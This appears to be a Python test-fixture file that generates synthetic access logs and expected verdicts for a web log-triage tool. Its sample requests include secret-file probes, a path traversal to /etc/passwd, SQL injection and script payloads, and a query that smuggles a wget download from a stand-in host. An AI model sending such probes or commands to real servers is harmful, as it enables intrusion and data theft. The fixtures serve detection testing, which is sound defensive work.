"""Access logs written for the triage, each with what is right about it."""

from __future__ import annotations

import bz2
import gzip
import json
import lzma
from dataclasses import dataclass, field

BROWSER = "Mozilla/5.0 (X11; Linux x86_64)"
USER, OTHER, BAD, WORSE = "81.2.69.142", "2a00:1450:4001::1", "45.155.205.7", "2a0b:f4c2::9"
TIME = "28/Nov/2026:02:00:05 +0000"


@dataclass(frozen=True, slots=True)
class Log:
    """`blocked`: who belongs on the blocklist. `named`: who must be told of, but never proposed.

    `got`: what probes were answered with success. `stops`: words of the refusal of a file that is none.
    """

    name: str
    content: bytes
    blocked: frozenset[str] = frozenset()
    named: frozenset[str] = frozenset()
    got: frozenset[str] = frozenset()
    clients: frozenset[str] = frozenset({USER})
    severity: str = "none"
    stops: str = ""
    timeless: int = 0
    proxies: tuple[str, ...] = ()
    allow: tuple[str, ...] = field(default=())


def line(
    client: str,
    path: str = "/",
    status: int = 200,
    *,
    time: str = TIME,
    size: int = 1234,
    agent: str = BROWSER,
    more: str = "",
    head: str = "",
) -> str:
    return f'{head}{client} - - [{time}] "GET {path} HTTP/1.1" {status} {size} "-" "{agent}"{more}\n'


def minute(number: int) -> str:
    return f"28/Nov/2026:{2 + number // 60:02}:{number % 60:02}:05 +0000"


def common(client: str, path: str, status: int) -> str:
    return f'{client} - ana [{TIME}] "GET {path} HTTP/1.0" {status} 2326\n'


def caddy(client: str, path: str, status: int) -> str:
    request = {"remote_ip": client, "method": "GET", "uri": path, "headers": {"User-Agent": [BROWSER]}}
    entry = {"level": "info", "ts": 1795831205.1, "request": request, "size": 12, "status": status}
    return json.dumps(entry) + "\n"


def nginx_json(client: str, path: str, status: int) -> str:
    entry = {
        "time_iso8601": "2026-11-28T02:00:05+00:00",
        "remote_addr": "10.0.0.5",
        "http_x_forwarded_for": client,
        "request": f"GET {path} HTTP/1.1",
        "status": str(status),
        "body_bytes_sent": "512",
        "http_user_agent": BROWSER,
    }
    return json.dumps(entry) + "\n"


def docker(client: str, path: str, status: int) -> str:
    return (
        json.dumps({"log": line(client, path, status), "stream": "stdout", "time": "2026-11-28T02:00:05Z"})
        + "\n"
    )


PROBES = ("/.env", "/.git/config", "/wp-config.php", "/../../etc/passwd", "/vendor/phpunit/eval-stdin.php")
USUAL = "".join(line(USER, path) for path in ("/", "/shop", "/cart")) * 10
TRIED = "".join(line(BAD, path, 404, size=162) for path in PROBES)
BLOCKED = frozenset({BAD})


def proxied(peer: str, forwarded: str) -> str:
    probes = "".join(line(peer, path, 404, more=f' "{forwarded}"') for path in PROBES)
    return "".join(line(peer, more=f' "{USER}"') for _ in range(9)) + probes


CORPUS = (
    Log("combined", (USUAL + TRIED).encode(), BLOCKED, clients=frozenset({USER, BAD}), severity="low"),
    Log(
        "common",
        (common(USER, "/", 200) * 9 + common(BAD, "/.env", 404)).encode(),
        BLOCKED,
        clients=frozenset({USER, BAD}),
        severity="low",
    ),
    Log(
        "virtual host first",
        "".join(
            line(who, path, head="shop.example.com:443 ")
            for who, path in [(USER, "/")] * 9 + [(BAD, "/.env")]
        ).encode(),
        BLOCKED,
        got=frozenset({"/.env"}),
        clients=frozenset({USER, BAD}),
        severity="high",
    ),
    Log(
        "virtual host is an address",
        "".join(
            line(who, path, 404, head="198.51.100.1:80 ") for who, path in [(USER, "/x"), (BAD, "/.env")]
        ).encode(),
        BLOCKED,
        clients=frozenset({USER, BAD}),
        severity="low",
    ),
    Log(
        "behind a private proxy",
        proxied("10.0.0.5", f"{BAD}, 10.0.0.5").encode(),
        BLOCKED,
        clients=frozenset({USER, BAD}),
        severity="low",
    ),
    Log(
        "behind a named proxy, with what the client claims before",
        proxied("198.51.100.7", f"8.8.8.8, {BAD}, 198.51.100.8").encode(),
        BLOCKED,
        clients=frozenset({USER, BAD}),
        severity="low",
        proxies=("198.51.100.0/24",),
    ),
    Log(
        "a forged header from the internet is not believed",
        "".join(line(BAD, path, 404, more=' "8.8.8.8"') for path in PROBES).encode(),
        BLOCKED,
        clients=BLOCKED,
        severity="low",
    ),
    Log(
        "the proxy's own address only",
        (USUAL + "".join(line("10.0.0.5", path, 404) for path in PROBES)).encode(),
        named=frozenset({"10.0.0.5"}),
        clients=frozenset({USER, "10.0.0.5"}),
    ),
    Log(
        "own, local and reserved addresses",
        (
            USUAL
            + "".join(
                line(who, "/.env", 404)
                for who in (
                    "::ffff:127.0.0.1",
                    "::1",
                    "169.254.169.254",
                    "255.255.255.255",
                    "0.0.0.0",
                    "100.64.3.4",
                    "fe80::1%eth0",
                    "fd00::5",
                    "192.168.1.9",
                    "224.0.0.1",
                    "::ffff:10.1.2.3",
                )
            )
        ).encode(),
        named=frozenset(
            {
                "127.0.0.1",
                "::1",
                "169.254.169.254",
                "255.255.255.255",
                "0.0.0.0",
                "100.64.3.4",
                "fe80::1",
                "fd00::5",
                "192.168.1.9",
                "224.0.0.1",
                "10.1.2.3",
            }
        ),
    ),
    Log(
        "mapped addresses are the client's",
        (USUAL + line(f"::ffff:{BAD}", "/.env", 404)).encode(),
        BLOCKED,
        severity="low",
    ),
    Log(
        "ports",
        (
            line(f"{USER}:51234") * 9 + line(f"[{WORSE}]:443", "/.env", 404) + line(f"{BAD}:5", "/.env", 404)
        ).encode(),
        frozenset({BAD, WORSE}),
        clients=frozenset({USER, BAD, WORSE}),
        severity="low",
    ),
    Log(
        "ISO times",
        (USUAL + TRIED).replace(TIME, "2026-11-28T02:00:05+00:00").encode(),
        BLOCKED,
        severity="low",
    ),
    Log(
        "times with fractions", (USUAL + TRIED).replace(":05 ", ":05.123 ").encode(), BLOCKED, severity="low"
    ),
    Log(
        "times that are none",
        (USUAL + TRIED).replace(TIME, "99/Foo/2026:02:00:05 +0000").encode(),
        BLOCKED,
        severity="low",
        timeless=35,
    ),
    Log(
        "JSON of Caddy",
        (caddy(USER, "/", 200) * 9 + caddy(BAD, "/.env", 404)).encode(),
        BLOCKED,
        clients=frozenset({USER, BAD}),
        severity="low",
    ),
    Log(
        "JSON of nginx behind a proxy",
        (nginx_json(USER, "/", 200) * 9 + nginx_json(f"{BAD}, 10.0.0.2", "/.git/HEAD", 200)).encode(),
        BLOCKED,
        got=frozenset({"/.git/HEAD"}),
        clients=frozenset({USER, BAD}),
        severity="high",
    ),
    Log(
        "JSON of Docker around combined",
        (docker(USER, "/", 200) * 9 + docker(BAD, "/.env", 404)).encode(),
        BLOCKED,
        severity="low",
    ),
    Log(
        "lines of a container and of syslog",
        (
            "".join(f"2026-11-28T02:00:05.1Z stdout F {line(USER)}" for _ in range(9))
            + f"Nov 28 02:00:05 web1 nginx: {line(BAD, '/.env', 404)}"
        ).encode(),
        BLOCKED,
        clients=frozenset({USER, BAD}),
        severity="low",
    ),
    Log("gzip", gzip.compress((USUAL + TRIED).encode()), BLOCKED, severity="low"),
    Log("bzip2", bz2.compress((USUAL + TRIED).encode()), BLOCKED, severity="low"),
    Log("xz", lzma.compress((USUAL + TRIED).encode()), BLOCKED, severity="low"),
    Log(
        "what an attacker got",
        (USUAL + TRIED + line(BAD, "/backup.sql.gz", 200, size=9_000_000)).encode(),
        BLOCKED,
        got=frozenset({"/backup.sql.gz"}),
        severity="high",
    ),
    Log(
        "one page for every path",
        (USUAL + "".join(line(BAD, path, 200, size=777) for path in PROBES)).encode(),
        BLOCKED,
        severity="low",
    ),
    Log(
        "a scanner by its name",
        (USUAL + line(BAD, "/item?id=1", agent="sqlmap/1.8")).encode(),
        BLOCKED,
        severity="low",
    ),
    Log(
        "a search for paths that are not there",
        (USUAL + "".join(line(BAD, f"/old/{number}.php", 404) for number in range(12))).encode(),
        BLOCKED,
        severity="low",
    ),
    Log(
        "guessed logins",
        (USUAL + line(BAD, "/login", 401) * 25).encode(),
        BLOCKED,
        severity="low",
    ),
    Log(
        "SQL and a script in the query",
        (
            USUAL + line(BAD, "/i?q=1+UNION+ALL+SELECT+1", 403) + line(WORSE, "/s?q=%3Cscript%3E", 400)
        ).encode(),
        frozenset({BAD, WORSE}),
        severity="low",
    ),
    Log(
        "attacks in the query",
        (
            USUAL
            + line(BAD, "/item?id=1%27+OR+%271%27=%271")
            + line(WORSE, "/shell?cd+/tmp;wget+http://198.51.100.9/x", 404)
        ).encode(),
        frozenset({BAD, WORSE}),
        got=frozenset({"/item?id=1%27+OR+%271%27=%271"}),
        severity="high",
    ),
    Log(
        "an allowed scanner",
        (USUAL + TRIED).encode(),
        named=BLOCKED,
        severity="low",
        allow=("45.155.205.0/24",),
    ),
    Log(
        "a host name",
        (USUAL + line("scan.example.net", "/.env", 404)).encode(),
        named=frozenset({"scan.example.net"}),
    ),
    # what looks bad and is not
    Log(
        "health checks",
        (USUAL + line("10.244.0.1", "/actuator/health", agent="kube-probe/1.29") * 60).encode(),
    ),
    Log(
        "an editor at work",
        (USUAL + line(OTHER, "/wp-login.php") + line(OTHER, "/wp-admin/post.php") * 30).encode(),
    ),
    Log("a mail program", (USUAL + line(OTHER, "/autodiscover/autodiscover.xml", 404) * 5).encode()),
    Log(
        "users of a broken page",
        (USUAL + "".join(line(f"81.2.69.{number}", "/logo.png", 404) * 12 for number in range(9))).encode(),
    ),
    Log(
        "a search engine",
        (
            USUAL
            + "".join(
                line("66.249.66.1", f"/gone/{number}", 404, agent="Googlebot/2.1") for number in range(20)
            )
        ).encode(),
    ),
    Log(
        "users of a server that fails",
        (USUAL + "".join(line(f"81.2.69.{number}", "/pay", 503) for number in range(90))).encode(),
        severity="high",
    ),
    Log(
        "a burst",
        "".join(
            line(USER, time=minute(number)) * (300 if number == 20 else 10) for number in range(40)
        ).encode(),
        severity="medium",
    ),
    Log(
        "a dot in a name",
        (USUAL + line(OTHER, "/.well-known/security.txt") + line(OTHER, "/.github/x")).encode(),
    ),
    Log("a quote in the agent", line(USER, agent='a \\"quoted\\" one').encode() * 9),
    Log("some garbage", (USUAL + "garbage\n" * 5).encode()),
    Log("nothing to see", USUAL.encode()),
    # what is no access log
    Log("empty", b"", stops="is empty"),
    Log(
        "an error log of nginx",
        b"2026/11/28 02:00:00 [error] 7#7: *1 connect() failed\n" * 9,
        stops="error log of nginx",
    ),
    Log(
        "an error log of Apache",
        b"[Sat Nov 28 02:00:00.123456 2026] [core:error] [pid 1] AH00126: Invalid URI\n" * 9,
        stops="error log of Apache",
    ),
    Log(
        "an IIS log",
        b"#Software: Microsoft IIS\n" + b"2026-11-28 02:00:00 10.0.0.1 GET / - 80\n" * 9,
        stops="no access log",
    ),
    Log(
        "JSON of something else",
        b'{"level":"error","msg":"no"}\n' * 9,
        stops="without the fields of a request",
    ),
    Log("JSON that is a list", b"[1]\n" * 9, stops="no access log"),
    Log("a zip archive", b"PK\x03\x04abc\n" * 3, stops="zip archive"),
    Log("a program", b"\x7fELF\x02\x01\x01\x00\n\x00\x01", stops="binary file"),
    Log("a table", b"time,client,status\n" * 9, stops="table with commas"),
    Log("more garbage than requests", (USUAL + "garbage\n" * 31).encode(), stops="only 30 of 61"),
    Log("gzip that ends early", gzip.compress((USUAL + TRIED).encode())[:-20], stops="damaged"),
)
